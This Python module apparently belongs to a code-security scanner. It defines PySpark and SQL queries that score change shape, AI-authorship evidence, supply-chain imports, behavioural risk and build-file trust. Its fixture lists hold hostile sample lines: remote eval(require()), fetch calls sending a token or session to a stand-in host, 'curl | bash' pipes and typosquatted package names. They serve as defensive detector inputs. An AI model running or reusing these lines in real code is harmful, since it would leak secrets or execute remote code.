"""Evidence queries: change shape, baselines, supply chain, build files, tooling, trust."""

from __future__ import annotations

from pyspark.sql import Window
from pyspark.sql import functions as F

from ..operators import evidence as E
from .registry import query

_CHANGES = "changes AS (SELECT scan_id, pr_author, min(created_at) AS created_at, CAST(sum(line_count) AS BIGINT) * 12 AS additions, scan_id % 4 AS commits, scan_id % 47 AS minutes, count(*) AS files, avg(ai) AS ai FROM scan_files GROUP BY 1, 2)"


def changes(g):
    """One row for each scan, as a pull request with its size."""
    rows = g.scan_files.groupBy("scan_id", "pr_author").agg(F.min("created_at").alias("created_at"), (F.sum("line_count") * 12).alias("additions"), F.count("*").alias("files"), F.avg("ai").alias("ai"))
    return rows.withColumn("commits", F.col("scan_id") % 4).withColumn("minutes", F.col("scan_id") % 47)


_SHAPE = """least(1.0::DOUBLE, CASE WHEN additions / c > 1000 THEN 0.3 WHEN additions / c > 500 THEN 0.2 WHEN additions / c > 200 THEN 0.1 ELSE 0 END::DOUBLE
    + CASE WHEN c = 1 AND additions > 300 THEN 0.15 WHEN c <= 2 AND additions > 500 THEN 0.1 ELSE 0 END::DOUBLE + CASE WHEN files / c > 8 AND c <= 2 THEN 0.1 WHEN files / c > 5 THEN 0.05 ELSE 0 END::DOUBLE
    + CASE WHEN minutes < 10 AND additions > 200 THEN 0.2 WHEN minutes < 30 AND additions > 500 THEN 0.1 ELSE 0 END::DOUBLE)"""


@query("change_behaviour", f"WITH {_CHANGES} SELECT scan_id, round({_SHAPE}, 8) AS score FROM (SELECT *, greatest(1, commits) AS c FROM changes)")
def change_behaviour(g):
    return changes(g).select("scan_id", F.round(E.change_behaviour(F.col("additions"), F.col("commits"), F.col("files"), F.col("minutes")), 8).alias("score"))


_BASE = "base AS (SELECT *, count(*) OVER w AS n, avg(additions) OVER w AS ml, avg(commits) OVER w AS mc, avg(files) OVER w AS mf FROM changes WINDOW w AS (PARTITION BY pr_author ORDER BY created_at, scan_id ROWS BETWEEN UNBOUNDED PRECEDING AND 1 PRECEDING))"
_DEV = """CASE WHEN n < 3 THEN 0.0 ELSE least(1.0::DOUBLE, CASE WHEN ml > 0 AND additions / ml > 5 THEN 0.35 WHEN ml > 0 AND additions / ml > 3 THEN 0.2 WHEN ml > 0 AND additions / ml > 2 THEN 0.1 ELSE 0 END::DOUBLE
    + CASE WHEN mc > 0 AND commits / mc < 0.3 AND additions > 100 THEN 0.3 WHEN mc > 0 AND commits / mc < 0.5 THEN 0.15 ELSE 0 END::DOUBLE + CASE WHEN mf > 0 AND files / mf > 4 AND commits <= 2 THEN 0.2 ELSE 0 END::DOUBLE) END"""


def with_baseline(g):
    before = Window.partitionBy("pr_author").orderBy("created_at", "scan_id").rowsBetween(Window.unboundedPreceding, -1)
    mean = lambda c: F.avg(c).over(before)
    rows = changes(g).withColumns({"n": F.count("*").over(before), "ml": mean("additions"), "mc": mean("commits"), "mf": mean("files")})
    base = {"n": F.col("n"), "lines": F.col("ml"), "commits": F.col("mc"), "files": F.col("mf")}
    return rows.withColumn("deviation", E.baseline_deviation(F.col("additions"), F.col("commits"), F.col("files"), base))


@query("baseline_deviation", f"WITH {_CHANGES}, {_BASE} SELECT scan_id, round({_DEV}, 8) AS deviation FROM base")
def baseline_deviation(g):
    """Each change against the averages of its author's changes before it."""
    return with_baseline(g).select("scan_id", F.round("deviation", 8).alias("deviation"))


@query("evidence_blend", f"""WITH {_CHANGES}, {_BASE}, e AS (SELECT scan_id, least(1.0::DOUBLE, ai * 0.25::DOUBLE + {_SHAPE} * 0.25::DOUBLE + (scan_id % 10) / 10.0::DOUBLE * 0.25::DOUBLE + ({_DEV}) * 0.15::DOUBLE + CASE WHEN additions > 1000 AND commits = 1 THEN 0.2 ELSE 0 END::DOUBLE) AS s FROM (SELECT *, greatest(1, commits) AS c FROM base))
    SELECT scan_id, s AS score, CASE WHEN s <= 0.2 THEN 'Likely Human' WHEN s <= 0.4 THEN 'Human with Tool Assistance' WHEN s <= 0.6 THEN 'Mixed Authorship' WHEN s <= 0.8 THEN 'Likely AI-Assisted' ELSE 'Strong AI Evidence' END AS band FROM (SELECT scan_id, round(s, 6) AS s FROM e)""")
def evidence_blend(g):
    a, c = F.col("additions"), F.col("commits")
    boost = F.when((a > 1000) & (c == 1), 0.2).otherwise(0.0)
    s = E.blend(F.col("ai"), E.change_behaviour(a, c, F.col("files"), F.col("minutes")), F.col("scan_id") % 10 / 10.0, F.col("deviation"), F.lit(0.0), boost)
    # The band is that of the rounded score, so the order of a sum decides nothing.
    return with_baseline(g).select("scan_id", F.round(s, 6).alias("score")).select("scan_id", "score", E.likelihood(F.col("score")).alias("band"))


# Imports of a generated file, with the score expected by hand.
IMPORTS = [("import a from 'react'", 0.0), ("const c = require('colors')", 0.3), ("import l from 'lodahs'\nimport r from 'rc/lib'", 0.7), ("const x = require('../up')", 0.2), ("eval(require('https://h/x'))", 0.4), ("import a from 'axios-http'\nimport b from 'coa'\nimport f from 'faker'\nimport e from 'express-js'", 1.0)]
_SCORES = "(VALUES " + ", ".join(f"({k}, {v}::DOUBLE)" for k, (_, v) in enumerate(IMPORTS)) + ") e(k, score)"


def _pick(samples, column="doc_id"):
    """The sample that a row's number picks, at the end of the document's whole text."""
    return F.concat_ws("\n", F.coalesce("text", F.lit("")), _one(samples, column))


def _one(samples, column="doc_id"):
    return F.element_at(F.array(*[F.lit(s) for s in samples]), (F.col(column) % len(samples) + 1).cast("int"))


@query("supply_chain", f"SELECT doc_id, round(score, 6) AS score FROM documents JOIN {_SCORES} ON doc_id % {len(IMPORTS)} = k")
def supply_chain(g):
    return g.table("documents").select("doc_id", F.round(E.supply_chain(_pick([s for s, _ in IMPORTS])), 6).alias("score"))


BEHAVIOURS = [("ok()", 0.0), ("if (Date.now() > 1700000000) x()", 0.25), ("fetch(`http://h/${token}`)", 0.35), ("setTimeout(f, key.length)\natob('QUJDREVGR0hJSktMTU5PUFFS')", 0.4), ("new Image().src = u\nnavigator.sendBeacon(u)\nfetch(`h/${session}`)", 1.0)]


@query("behavioural_risk", "SELECT doc_id, round(score, 6) AS score FROM documents JOIN (VALUES " + ", ".join(f"({k}, {v}::DOUBLE)" for k, (_, v) in enumerate(BEHAVIOURS)) + f") e(k, score) ON doc_id % {len(BEHAVIOURS)} = k")
def behavioural_risk(g):
    return g.table("documents").select("doc_id", F.round(E.behaviour(_pick([s for s, _ in BEHAVIOURS])), 6).alias("score"))


BUILDS = [("uses: actions/checkout@v1.2.3\nrun: trivy", 1.0), ("uses: a/b@main\nrun: make", 0.82), ("curl http://x | bash\ngitleaks", 0.85), ("if: secrets.A == 'x'\ncurl h | sh\nuses: a/b@v1", 0.52)]


@query("build_trust", "SELECT doc_id, round(score, 6) AS score FROM documents JOIN (VALUES " + ", ".join(f"({k}, {v}::DOUBLE)" for k, (_, v) in enumerate(BUILDS)) + f") e(k, score) ON doc_id % {len(BUILDS)} = k")
def build_trust(g):
    return g.table("documents").select("doc_id", F.round(E.build_trust(_pick([s for s, _ in BUILDS])), 6).alias("score"))


PATHS = [("src/a.py", "python", ""), (".cursorrules", "text", "Cursor"), ("x/.github/copilot-instructions.md", "markdown", "GitHub Copilot"), ("lib/b.TSX", "typescript", ""), ("AGENTS.md", "markdown", "AI Agents"), (".continue/c.json", "json", "Continue")]


@query("file_metadata", "SELECT doc_id, language, tools FROM documents JOIN (VALUES " + ", ".join(f"({k}, '{a}', '{b}')" for k, (_, a, b) in enumerate(PATHS)) + f") e(k, language, tools) ON doc_id % {len(PATHS)} = k")
def file_metadata(g):
    """Language and assistant tooling told by the path."""
    rows = g.table("documents").select("doc_id", _one([p for p, _, _ in PATHS]).alias("path"))
    return rows.select("doc_id", E.language(F.col("path")).alias("language"), F.array_join(E.tool_of(F.col("path")), ",").alias("tools"))


@query("repository_trust", """SELECT repo, round(s, 8) AS score, CASE WHEN s >= 0.85 THEN 'TRUSTED' WHEN s >= 0.7 THEN 'LOW_RISK' WHEN s >= 0.5 THEN 'MODERATE_RISK' WHEN s >= 0.3 THEN 'HIGH_RISK' ELSE 'CRITICAL_RISK' END AS label FROM (
    SELECT repo, greatest(0.0, least(1.0, 1 - avg(ai) * 0.25 - least(1.0, count(*) FILTER (risk IN ('CRITICAL', 'HIGH')) / (sum(line_count)::DOUBLE / 100) / 5) * 0.2 - (1 - 0.9) * 0.1::DOUBLE - 0.1 * 0.15::DOUBLE - (1 - avg(attested::INT)) * 0.1)) AS s FROM top_files GROUP BY 1)""")
def repository_trust(g):
    from .governance import top_files

    rows = top_files(g).groupBy("repo").agg(F.avg("ai").alias("ai"), (F.count_if(F.col("risk").isin("CRITICAL", "HIGH")) / (F.sum("line_count") / 100)).alias("density"), F.avg(F.col("attested").cast("int")).alias("signed"))
    s = E.repository_trust(F.col("ai"), F.col("density"), F.lit(0.9), F.lit(0.1), F.col("signed"), F.lit(0), F.lit(0.0))
    return rows.select("repo", s.alias("s")).select("repo", F.round("s", 8).alias("score"), E.trust_label(F.col("s")).alias("label"))


@query("framework_average", "SELECT scan_id, round(list_reduce(list(ai ORDER BY file_path), lambda a, x: (a + x) / 2), 8) AS folded, round(avg(ai), 8) AS mean FROM scan_files GROUP BY 1")
def framework_average(g):
    """Scores merged one after the other in order of path, and their true mean."""
    rows = E.pairwise_average(g.scan_files, "scan_id", "file_path", "ai")
    return rows.select("scan_id", F.round("folded", 8).alias("folded"), F.round("mean", 8).alias("mean"))


@query("roi", "SELECT org_id, round(n * 1.5::DOUBLE * 85, 4) AS saved, round(n * 1.5::DOUBLE * 85 - 2000, 4) AS net FROM (SELECT org_id, count(*) AS n FROM attestations GROUP BY 1)")
def roi(g, hours: float = 1.5, rate: float = 85.0, cost: float = 2000.0):
    """Reviews automated, in money, less the cost; all three are inputs."""
    saved = F.count("*") * hours * rate
    return g.attestations.groupBy("org_id").agg(F.round(saved, 4).alias("saved"), F.round(saved - cost, 4).alias("net"))


@query("taint_paths")
def taint_paths(g):
    """Assignments that carry user input to a sink within a file, with their lines."""
    from ..operators import structure
    from .code import snippet_files

    return structure.taint_paths(snippet_files(g))


@query("code_metrics")
def code_metrics(g):
    """Functions, classes, exports, complexity, nesting, comments and Halstead volume of each file."""
    from ..operators import structure
    from .code import code_files

    return structure.measured(code_files(g))


#: (path around the id, skip, generated, test)
FILES = [("src/a", ".ts", False, False, False), ("src/a", ".test.tsx", False, False, True), ("conf/a", ".JSON", True, False, False), ("gen/a", "_pb.js", True, True, False), ("types/a", ".d.ts", True, True, False), ("pkg/a", "_test.go", False, False, True), ("tests/test_a", ".py", False, False, True), ("app/A", "Test.java", False, False, True), ("x/a", ".generated.ts", True, True, False), ("bin/a", "", False, False, False), ("doc/a", ".md", True, False, False), ("lib/a", ".min.js", True, True, False)]
_TYPES = "(VALUES " + ", ".join(f"({k}, '{a}', '{b}', {s}, {gen}, {t})" for k, (a, b, s, gen, t) in enumerate(FILES)) + ") e(k, a, b, skip, generated, test)"


@query("file_types", f"""SELECT doc_id, a || doc_id || b AS path, skip, generated, test, CASE WHEN test THEN 0.08::DOUBLE ELSE 0::DOUBLE END AS bias, NOT skip AND length(trim(coalesce(text, ''), ' ' || chr(9) || chr(10) || chr(13) || chr(12) || chr(11))) >= 50 AS scanned,
    sha256(coalesce(text, '')) AS content_hash, len(string_split(coalesce(text, ''), chr(10)))::INT AS line_count FROM documents JOIN {_TYPES} ON doc_id % {len(FILES)} = k""")
def file_types(g):
    """What decides on a file's scan: skipped, generated and test files by path, short texts, hash and lines of the whole text."""
    from ..operators import filetype

    pick = lambda n: F.element_at(F.array(*[F.lit(x[n]) for x in FILES]), (F.col("doc_id") % len(FILES) + 1).cast("int"))
    rows = g.table("documents").select("doc_id", F.concat(pick(0), "doc_id", pick(1)).alias("path"), F.coalesce("text", F.lit("")).alias("text"))
    found = filetype.file_type(F.col("path"))
    return rows.select("doc_id", "path", found.alias("t"), filetype.scanned(F.col("path"), F.col("text")).alias("scanned"), F.sha2(F.col("text").cast("binary"), 256).alias("content_hash"), F.size(F.split("text", "\n")).alias("line_count")).select("doc_id", "path", "t.*", "scanned", "content_hash", "line_count")
